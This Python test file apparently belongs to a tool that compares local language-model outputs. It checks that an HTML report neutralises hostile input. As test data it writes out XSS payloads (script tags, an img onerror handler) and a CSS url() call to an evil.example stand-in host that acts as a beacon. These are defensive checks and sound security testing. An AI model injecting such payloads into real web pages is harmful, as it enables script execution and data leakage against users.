HOSTILE_NAME = "\"><img src=x onerror=alert(1)>"


def test_a_hostile_report_stays_inert_and_keeps_the_credentials_out() -> None:
    """Model names, prompts, the preset and the answer from a hostile source: every string
    is text, the answer is sanitized, nothing is fetched, no host's user:password@."""
    answer = f"## Report\n\n{BEACON}\n\n<script>alert(3)</script> 128 panels.\n"
    system = f"<script>alert(1)</script> {BEACON}"
    prompt = f"{HOSTILE_NAME} <style>body{{background:url(http://evil.example/x)}}</style>"
    with FakeOllama(models=[HOSTILE_NAME, "<script>x</script>"],
                    script=Script(tokens=tokenize(answer), go_escape=False)) as server:
        host = server.url.replace("//", "//user:password@")
        panes = [RunParams("ollama", host, HOSTILE_NAME), RunParams("ollama", host,
                                                                    "<script>x</script>")]
        comparison = Comparison(panes, system, prompt, preset=f"<b>{HOSTILE_NAME}</b>",
                                build=build).start()
        assert comparison.wait(10)
    assert [run.status for run in comparison.current_round] == [Status.FINISHED] * 2
    report = comparison.to_html()
    assert re.search(r"<meta http-equiv=\"Content-Security-Policy\"\s+content=\"default-src "
                     r"'none'; style-src 'unsafe-inline'\">", report)
    lowered = report.lower()
    for tag in ("<script", "<img", "<style>body", "<iframe", "<link", "<object", "<b>"):
        assert tag not in lowered, tag
    assert re.search(r"<[^>]*\bon[a-z]+\s*=", lowered) is None  # no event handler
    assert re.search(r"<[^>]*\ssrc\s*=", lowered) is None  # nothing to fetch
    (style,) = re.findall(r"<style>(.*?)</style>", lowered, re.DOTALL)  # the template's own
    assert "url(" not in style and "@import" not in style
    assert "password" not in report and "user:" not in report
    assert html.escape(HOSTILE_NAME) in report and html.escape(BEACON) in report
    assert "evil.example/beacon.png" in report  # the answer's image: a link, not an <img>
    assert f"sha256:{tag_digest(HOSTILE_NAME)}" in report


def _section(report: str, heading: str) -> str:
    """The report's part under ``<h2>heading</h2>``, up to the next heading of its rank."""
    found = re.search(rf"<h2>{heading}</h2>(.*?)(?=<h2>|</main>)", report, re.DOTALL)
    assert found is not None, heading
    return found.group(1)
